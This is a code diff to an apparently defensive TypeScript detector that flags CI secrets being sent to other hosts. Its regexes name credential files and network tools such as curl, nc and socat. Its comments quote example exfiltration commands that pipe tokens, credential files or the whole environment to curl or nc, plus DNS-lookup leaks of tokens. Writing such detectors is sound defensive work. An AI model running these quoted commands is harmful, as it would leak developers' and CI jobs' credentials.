@@ -18,6 +18,8 @@ export const SECRET_NAME = String.raw`\w*(?:token|secret|passw(?:or)?d|passphras
  * token) and a process's environment (`/proc/self/environ`; review 65): also the injection detector's.
  */
 export const CREDENTIAL_FILE = String.raw`(?:(?:~|\$home|\/home\/\w+|\/root)?\/?\.(?:aws\/credentials|ssh\/(?:id_\w+|[\w.-]+\.pem)|npmrc|pypirc|netrc|git-credentials|git\/config|docker\/config\.json|kube\/config|config\/gh\/hosts\.ya?ml)|\/proc\/\w+\/environ)\b`;
+/** A program that sends what it reads to a host. */
+const SENDS_STDIN = String.raw`(?:curl|wget|n(?:et)?c(?:at)?|socat)\b`;
 /** The job's own credentials, which no request carries in its query or body to a service the tests own. */
 const JOB_CREDENTIAL = String.raw`(?:g(?:ithub|h)_token|actions_\w*|n(?:pm|ode_auth)_token|aws_se\w*|pypi_\w*|twine_password)`;
 /**
@@ -39,30 +41,48 @@ const ELSEWHERE = String.raw`(?!(?:[^\s/\\?#@"'\x60]*@)?(?:localhost|127\.[\d.]+
  */
 const SEND_WORD = String.raw`(?<!\b(?:child|process|worker|subprocess|proc|port|parentPort)\.)\bsend(?!_?(?:header|response|error|file|status)\b)\w*`;
 /** A call that sends what it is given. */
-const SEND = String.raw`(?:\b(?:requests|httpx|axios|session|client)\.\w+|\b(?:fetch|urlopen|post|put|request)|${SEND_WORD})\s*\(`;
+const SEND = String.raw`(?:\b(?:requests|httpx|axios|session|client)\.\w+|\bhttps?\.(?:get|request)|\b(?:fetch|urlopen|post|put|request)|${SEND_WORD})\s*\(`;
+/**
+ * The job's credential added to a URL the test is given (`urlopen(url + os.environ['GITHUB_TOKEN'])`, in a template:
+ * `` fetch(`${base}?t=${process.env.GITHUB_TOKEN}`) ``), or printed into a pipe to a program that sends (`echo "$GITHUB_TOKEN" | curl -d @- …`, `printenv NPM_TOKEN | nc h 443`;
+ * session 66). (In FORMS, session 66 also reads a credential file or the auth header in a substitution on curl's or
+ * wget's line, `curl -d "$(cat ~/.git-credentials)"`, and a credential directory piped, `tar cz ~/.aws | curl -T - …`.) A token added after a string (`'token ' + os.environ[…]`, a header's value) is not read here.
+ */
+const JOB_CREDENTIAL_SENT = String.raw`${SEND}\s*(?:[\w$.]+\s*\+\s*|\x60[^\x60\n]{0,200}?)${variableRead(JOB_CREDENTIAL)}|\b(?:echo|printf|printenv)\b[^\n|;&]{0,100}?\b${JOB_CREDENTIAL}\b[^\n;&]{0,100}?\|\s*${SENDS_STDIN}`;
+/**
+ * A secret-named variable in a DNS lookup (`dns.lookup(hex(process.env.NPM_TOKEN) + '.h')`, `socket.gethostbyname`,
+ * `getaddrinfo`, `dns.promises.resolveTxt`, `dig`/`nslookup`/`host "$TOKEN.h"`): the name asked for reaches the resolvers of the domain it ends in
+ * (session 66). A host read from the environment (`dns.lookup(process.env.DB_HOST)`) is no secret.
+ */
+const SECRET_LOOKED_UP = String.raw`(?:\b(?:(?:dns|resolver)(?:\.\w+)+|lookup|gethostbyname\w*|getaddrinfo)\s*\(|\b(?:dig|nslookup|host)\s)[^\n|;&]{0,150}?${variableRead(SECRET_NAME)}`;
 const FORMS = new RegExp(
   // A credential file, or the checkout's auth header, read and sent on one line; a secret in a literal URL to another
   // host, inside it (`?t=${…}`, `$NPM_TOKEN`, `{os.environ[…]}`) or added to it; the job's credential in a request's
-  // query or body to any host, or on a socket (the reach stops at a closing bracket: a header after the body is not it;
-  // review 65), or in a shell request's body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data`; review 65).
-  String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b)[^\n|]{0,200}\|\s*(?:curl|wget|n(?:et)?c(?:at)?|socat)\b|\b(?:http|ws)s?:\/\/${ELSEWHERE}[^\s"'\x60{}]{0,300}(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${variableRead(SECRET_NAME)}|(?:${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|qs?|query)\s*[=:]|${SEND_WORD}\s*\()[^\n)}]{0,150}?${variableRead(JOB_CREDENTIAL)}| --?(?:d|F|(?:post-)?data\S*)[ =]?\S{0,60}?${variableRead(JOB_CREDENTIAL)}`,
+  // query or body to any host, set on a URL's query (`u.searchParams.set('t', …)`; session 66), or on a socket (the reach
+  // stops at a closing bracket and at a `headers` key: a header after the body is not it; review 65, session 66's
+  // `https.get({ path: '/user', headers: { Authorization: … } })`), or in a shell request's body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data`; review 65).
+  String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b|(?:~|\$\{?HOME\}?)\/\.(?:aws|ssh|docker|kube|gnupg)\b)[^\n|]{0,200}\|\s*${SENDS_STDIN}|\b(?:curl|wget)\b[^\n]{0,200}?\$\([^)\n]{0,100}?(?:${CREDENTIAL_FILE}|\bextraheader\b)|\b(?:http|ws)s?:\/\/${ELSEWHERE}[^\s"'\x60{}]{0,300}(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${variableRead(SECRET_NAME)}|(?:${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|qs?|query|path)\s*[=:]|${SEND_WORD}\s*\(|\bsearchParams\.(?:set|append)\()(?:(?!headers\b)[^\n)}]){0,150}?${variableRead(JOB_CREDENTIAL)}| --?(?:d|F|(?:post-)?data\S*)[ =]?\S{0,60}?${variableRead(JOB_CREDENTIAL)}|${JOB_CREDENTIAL_SENT}|${SECRET_LOOKED_UP}`,
   'i',
 );
 
-/** The whole environment as an expression (`process.env`, `os.environ`, a copy of it), not a variable read from it. */
-const WHOLE_ENVIRONMENT = String.raw`(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)`;
+/**
+ * The whole environment as an expression (`process.env`, `os.environ`, a copy of it), not a variable read from it, or
+ * the output of `env`/`printenv` (`subprocess.check_output(['env'])`; session 66).
+ */
+const WHOLE_ENVIRONMENT = String.raw`(?:(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)|\b(?:check_output|getoutput|popen|execSync|run)\(\[?["'\x60](?:print)?env["'\x60])`;
 /**
  * The whole environment given to a call that sends it (`fetch(u, { body: JSON.stringify(process.env) })`,
  * `requests.post(u, json=dict(os.environ))`), or piped to one (`env | curl -d @- …`; attack 64): `dangerous-code.ts`'s
  * `secrets-dump` reads it in any text, and {@link secretsSent} through a variable.
  */
-export const ENVIRONMENT_SENT = String.raw`${SEND}[^;\n]{0,200}?${WHOLE_ENVIRONMENT}|env\s*\|\s*(?:curl|wget|nc)\b`;
+export const ENVIRONMENT_SENT = String.raw`${SEND}[^;\n]{0,200}?${WHOLE_ENVIRONMENT}|env\s*\|\s*${SENDS_STDIN}`;
 const ENVIRONMENT_SENT_RE = new RegExp(ENVIRONMENT_SENT, 'i');
 /**
  * A name given the whole environment or a credential file's text on one line, group 1 the name (a `$` before it, PHP's
- * or a JavaScript name's, is left out of it and of its mentions alike).
+ * or a JavaScript name's, is left out of it and of its mentions alike), or group 2 an object rest's (`const { CI, ...rest }
+ * = process.env`; session 66).
  */
-const CARRIER = new RegExp(String.raw`(?<![\w.])(\w+)[ \t]*=(?![=>])[^\n;]{0,300}?(?:${WHOLE_ENVIRONMENT}|${CREDENTIAL_FILE})`, 'gi');
+const CARRIER = new RegExp(String.raw`(?:(?<![\w.])(\w+)|\.\.\.(\w+)[ \t]*\})[ \t]*=(?![=>])[^\n;]{0,300}?(?:${WHOLE_ENVIRONMENT}|${CREDENTIAL_FILE})`, 'gi');
 /** At most this many carriers are followed (bounds the pattern made of their names); past them, the text is refused. */
 const MAX_CARRIERS = 16;
 
@@ -71,12 +91,44 @@ const MAX_CARRIERS = 16;
  * carrier's name that reads it whole (not `env.API_URL`, `env['X']`, nor its assignment) read as the environment.
  */
 function carriedAndSent(text: string): boolean {
-  const carriers = [...text.matchAll(CARRIER)].map((match) => match[1]!);
+  const carriers = [...text.matchAll(CARRIER)].map((match) => (match[1] ?? match[2])!);
   if (carriers.length > MAX_CARRIERS) return true;
   return carriers.length > 0 && ENVIRONMENT_SENT_RE.test(text.replace(new RegExp(String.raw`(?<![\w.'"])(?:${carriers.join('|')})\b(?!\s*(?:\.\s*\w|\[|=[^=]))`, 'g'), 'os.environ'));
 }
 
+/**
+ * A test client's `send` on an app in the test's own process (supertest's `request(app).post('/hook').send({…})`), group
+ * 1 the chain before `send`, group 2 the app's name (review 65's open false refusal). superagent's chain starts at a
+ * URL (`request.post('https://…')`), and supertest given a URL's string sends to it: a name the text gives anything but
+ * a call's result (`const app = express()`, `createApp()`) is no app (`const app = process.env.TARGET`).
+ */
+const TEST_CLIENT_SEND = /\b((?:request|supertest)\(\s*(\w+)(?:\.\w+(?:\(\))?)?\s*\)[^\n;]{0,150}?\.\s*)send\b/g;
+/**
+ * A name given anything but a call's result (`const app = process.env.TARGET`, a URL's string), group 1; a `new` object
+ * or a call given a URL counts as a value (review 66: `new URL('https://…')`, `String('https://…')`).
+ */
+const GIVEN_A_VALUE = /(?<!\w)(\w+)\s*=(?![=>])(?!\s*(?:await\s+)?(?!new\b)[\w$.]+\s*\((?![^)\n]{0,200}:\/\/))/g;
+
+/**
+ * A name given as a parameter (review 66: `(target) => request(target)…`, `it.each([url])('…', async (app) => …)`): the
+ * caller's value may be a URL. Groups 1 to 3 hold the names.
+ */
+const PARAMETERS = /\(([^()\n]{0,100})\)\s*=>|\bfunction\b[^(\n]{0,50}\(([^()\n]{0,100})\)|(?<!\w)(\w+)\s*=>/g;
+
+/** `text` with a test client's `send` to an app ({@link TEST_CLIENT_SEND}) spelled as no sending call. */
+function appSendsRenamed(text: string): string {
+  const values = new Set([...text.matchAll(GIVEN_A_VALUE)].map((match) => match[1]));
+  for (const match of text.matchAll(PARAMETERS)) for (const name of match.slice(1).join(' ').match(/\w+/g) ?? []) values.add(name);
+  return text.replace(TEST_CLIENT_SEND, (send, chain: string, name: string) => (values.has(name) ? send : `${chain}sent_to_app`));
+}
+
 /** Whether `text` sends a CI job's secrets to another host in one of this module's forms. */
-export function secretsSent(text: string): boolean {
+export function secretsSent(written: string): boolean {
+  // A call spread over lines (black's style) read as one line: each line ending in an opening bracket or a comma is
+  // joined to the next (session 66: `requests.post(\n    u,\n    json=dict(os.environ),\n)`).
+  // A path built in pieces read as one (`Path.home() / '.aws' / 'credentials'`, `path.join(home, '.aws', 'credentials')`):
+  // any two strings one `/` or `,` apart are read joined by `/`.
+  const joined = written.replace(/([([{,])\s*\n\s*/g, '$1 ').replace(/["']\s*[/,]\s*["']/g, '/');
+  const text = appSendsRenamed(joined);
   return FORMS.test(text) || carriedAndSent(text);
 }
